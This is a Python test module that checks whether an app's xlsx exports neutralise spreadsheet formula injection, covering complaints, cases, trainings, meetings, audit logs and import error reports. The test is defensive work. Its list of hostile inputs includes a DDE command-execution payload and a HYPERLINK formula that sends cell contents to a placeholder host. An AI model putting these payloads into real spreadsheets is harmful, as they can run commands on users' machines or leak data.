"""Issue 16, point 4: every xlsx the app writes keeps text as text, read back at the XML level.

A cell whose text starts like a formula (=, +, -, @, after blanks, full-width ＝) must not become a formula: no <f>
element, the value stored as a string (t="inlineStr" or "s") exactly as given, and the cell's style marked
quotePrefix so that a spreadsheet keeps it text when someone edits it. Numbers and dates stay numbers.
"""

from __future__ import annotations

import ast
import zipfile
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controllers.accounts.audit_log import export_entries
from controllers.cases import listing as case_list
from controllers.cases.export import export_cases
from controllers.complaints import listing as complaint_list
from controllers.complaints.importer import ImportResult, RowError, save_error_report
from controllers.core.context import AppContext
from controllers.documents.xlsx_writer import Column, looks_like_formula, write_table
from controllers.meetings.export import export_meetings
from controllers.meetings.records import create_meeting
from controllers.trainings import records as trainings
from controllers.trainings.common import kind_choices
from controllers.trainings.export import export_trainings
from models.admin import AuditEntry
from models.complaints import Complaint
from tests.unit.bad_input_kit import PROPERTY
from tests.unit.case_fixtures import new_case

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
ROOT = Path(__file__).resolve().parents[2]

# What reached the log from 12345 files and typing (issue 16): live links, DDE, a work-order number "=1+1".
HOSTILE = ["=1+1", '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
           "@SUM(A1:A9)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "　=1+1", "＋1", "－1", "＠SUM(A1)",
           "#N/A", "#DIV/0!", "=", "-", "--", "=A1", "=SUM(1;2)"]
_text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40),
                  st.tuples(st.sampled_from(["=", "+", "-", "@", " =", "\t@", "＝", "#"]), st.text(max_size=20))
                  .map("".join))


@dataclass(frozen=True)
class Cell:
    ref: str
    kind: str  # the t attribute ("n" when absent)
    text: str | None  # the string stored, for a text cell
    quote_prefix: bool


def read_cells(path: Path) -> list[Cell]:
    """Every cell of the first sheet as stored in the file; fails on any formula."""
    with zipfile.ZipFile(path) as z:
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
        styles = ET.fromstring(z.read("xl/styles.xml"))
    xfs = styles.find("m:cellXfs", NS)
    assert xfs is not None
    quoted = [xf.get("quotePrefix") in ("1", "true") for xf in xfs.findall("m:xf", NS)]
    shared: list[str] = []
    cells = []
    for c in sheet.iter(f"{{{NS['m']}}}c"):
        ref = c.get("r", "")
        assert c.find("m:f", NS) is None, f"{ref} is a formula"
        kind = c.get("t", "n")
        assert kind != "e", f"{ref} is an error cell"
        text = None
        if kind == "inlineStr":
            text = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
        elif kind == "s":
            text = shared[int(c.findtext("m:v", "", NS))]
        else:
            assert kind == "n", f"{ref} has type {kind}"
        cells.append(Cell(ref, kind, text, quoted[int(c.get("s", "0"))]))
    return cells


def _as_read(value: str) -> str:
    """The text as an XML reader returns it (line ends folded) after the writer dropped control characters."""
    cleaned = "".join(ch for ch in value if ch >= " " or ch in "\t\n\r")
    return cleaned.replace("\r\n", "\n").replace("\r", "\n")


def assert_text_kept(cells: list[Cell], texts: list[str]) -> None:
    """Each given text is stored as text, unchanged, and quote-prefixed when a spreadsheet would take it for a
    formula; no text cell anywhere looks like a formula without the prefix."""
    by_text = {c.text: c for c in cells if c.text is not None}
    for value in texts:
        shown = _as_read(value)
        if not shown:
            continue
        assert shown in by_text, f"{value!r} not written as text"
        assert by_text[shown].quote_prefix or not looks_like_formula(shown), f"{value!r} has no quotePrefix"
    for c in cells:
        if c.text is not None and looks_like_formula(c.text):
            assert c.quote_prefix, f"{c.ref} {c.text!r} has no quotePrefix"


@PROPERTY
@given(texts=st.lists(_text, min_size=1, max_size=8), number=st.integers(-(10**6), 10**6),
       day=st.dates(date(1950, 1, 1), date(2099, 12, 31)))
def test_generated_text_is_written_as_text(tmp_path_factory: pytest.TempPathFactory, texts: list[str], number: int,
                                           day: date) -> None:
    out = tmp_path_factory.mktemp("x") / "t.xlsx"
    columns = [Column(texts[0]), Column("数", kind="int"), Column("日期", kind="date"), Column("文本")]
    rows = [(t, number, day, t) for t in texts]
    write_table(out, title=texts[-1], subtitle="筛选条件：全部", columns=columns, rows=rows)
    cells = read_cells(out)
    assert_text_kept(cells, texts)
    numbers = [c for c in cells if c.ref[0] in "BC" and int(c.ref[1:]) > 3]
    assert len(numbers) == 2 * len(texts) and all(c.kind == "n" for c in numbers)  # numbers and dates stay numbers


@pytest.mark.parametrize("text", ["=1+1", " =1+1", "\t=1+1", "\r=1+1", "＝1+1", "@SUM(A1)", "-1+2", "+1", "#N/A"])
def test_each_formula_start_is_escaped(tmp_path: Path, text: str) -> None:
    out = tmp_path / "t.xlsx"
    write_table(out, title="标题", subtitle="说明", columns=[Column("文本")], rows=[(text,)])
    assert_text_kept(read_cells(out), [text])


def test_plain_text_and_negative_numbers_are_not_prefixed(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(out, title="标题", subtitle="说明", columns=[Column("文本"), Column("数", kind="int")],
                rows=[("梅川路100弄", -5), ("2025-长征-0001", 0)])
    cells = {c.ref: c for c in read_cells(out)}
    assert not cells["A4"].quote_prefix and cells["B4"].kind == "n" and cells["A5"].text == "2025-长征-0001"


# ---------------------------------------------------------------- every export the app has


def _training_kind(ctx: AppContext) -> int:
    return kind_choices(ctx)[0][0]


def _export_complaints(ctx: AppContext, out: Path) -> None:
    with ctx.db.session() as s:
        s.add(Complaint(channel="12345热线", received_at=datetime(2025, 3, 4, 2, 30), work_order_no=HOSTILE[0],
                        complainant_name=HOSTILE[3], address=HOSTILE[1], content=HOSTILE[2]))
    complaint_list.export_complaints(ctx, complaint_list.ComplaintFilter(), out, reveal_personal=True)


def _export_cases(ctx: AppContext, out: Path) -> None:
    new_case(ctx, place=HOSTILE[1])
    export_cases(ctx, case_list.CaseFilter(), out)


def _export_trainings(ctx: AppContext, out: Path) -> None:
    trainings.create_training(ctx, trainings.TrainingInput(
        kind_id=_training_kind(ctx), title=HOSTILE[1], starts_at=datetime(2025, 3, 5, 9), venue=HOSTILE[0],
        organiser=HOSTILE[2]))
    export_trainings(ctx, out)


def _export_meetings(ctx: AppContext, out: Path) -> None:
    create_meeting(ctx, kind="例会", held_on=date(2025, 6, 1), title=HOSTILE[1], venue=HOSTILE[0],
                   decisions=HOSTILE[2], today=date(2025, 6, 2))
    export_meetings(ctx, out, today=date(2025, 6, 2))


def _export_audit(ctx: AppContext, out: Path) -> None:
    with ctx.db.session() as s:
        s.add(AuditEntry(username=HOSTILE[0], action="导入12345工单", entity="complaints", detail=HOSTILE[1]))
    export_entries(ctx, out)


def _error_report(ctx: AppContext, out: Path) -> None:
    result = ImportResult(source=HOSTILE[0], rows=2, imported=0, updated=0, duplicates=0, unmatched_estates=(),
                          errors=(RowError(2, HOSTILE[1]), RowError(3, HOSTILE[2])), repeats_found=0)
    save_error_report(result, out)


@pytest.mark.parametrize("export", [_export_complaints, _export_cases, _export_trainings, _export_meetings,
                                    _export_audit, _error_report], ids=lambda f: f.__name__.lstrip("_"))
def test_every_export_writes_formula_text_as_text(app_ctx: AppContext, tmp_path: Path, export) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "导出.xlsx"
    export(app_ctx, out)
    cells = read_cells(out)
    assert_text_kept(cells, [])
    assert any(c.text is not None and HOSTILE[1] in c.text for c in cells), "the hostile text is not in the export"


def test_no_other_module_writes_xlsx() -> None:
    """openpyxl is imported only by the writer and the readers, and the readers never build a workbook: every
    workbook the app saves goes through xlsx_export."""
    found = {}
    for path in [*ROOT.glob("controllers/**/*.py"), *ROOT.glob("ui/**/*.py"), *ROOT.glob("models/**/*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [f"{node.module}.{a.name}" for a in node.names]
            for name in names:
                if name.startswith("openpyxl"):
                    found.setdefault(path.relative_to(ROOT).as_posix(), []).append(name)
    readers = {"controllers/documents/tabular.py", "controllers/documents/xlsx_cells.py"}
    assert set(found) <= {"controllers/documents/xlsx_writer.py", *readers}, found
    assert not [n for r in readers for n in found.get(r, []) if n.endswith(("Workbook", "WriteOnlyCell"))]
